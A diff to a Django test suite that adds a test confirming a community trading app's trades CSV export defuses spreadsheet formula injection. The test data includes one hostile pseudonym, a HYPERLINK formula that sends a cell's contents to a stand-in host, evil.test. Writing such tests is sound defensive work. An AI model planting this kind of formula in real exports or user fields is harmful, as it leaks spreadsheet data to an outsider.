@@ -6,6 +6,7 @@ Time is frozen at the factories' T0 (interval 10:15, gate 10:10 UTC), so gate cl
 
 from __future__ import annotations
 
+import csv
 from datetime import timedelta
 from decimal import Decimal
 from typing import Any
@@ -587,3 +588,16 @@ def test_dashboard_query_count_does_not_grow_with_trades(
     client = client_for(alice)
     with django_assert_max_num_queries(DASHBOARD_QUERIES):
         assert client.get(url("dashboard", interval.community)).status_code == 200
+
+
+def test_the_trades_csv_defuses_a_formula_in_a_cell(
+    frozen: Any, interval: Interval, alice: Member, bob: Member
+) -> None:
+    offer = post(alice, interval)
+    bid_accept(bid=bid(bob, offer, quantity="2"), by_membership=alice.membership)
+    hostile = '=HYPERLINK("http://evil.test/?"&A1)'
+    type(alice.membership).objects.filter(pk=alice.membership.pk).update(pseudonym=hostile)
+    response: Any = client_for(bob).get(url("trades_csv", interval.community))
+    rows = list(csv.reader(b"".join(response.streaming_content).decode().splitlines()))
+    assert rows[1][4] == "'" + hostile  # shown as text, never run
+    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
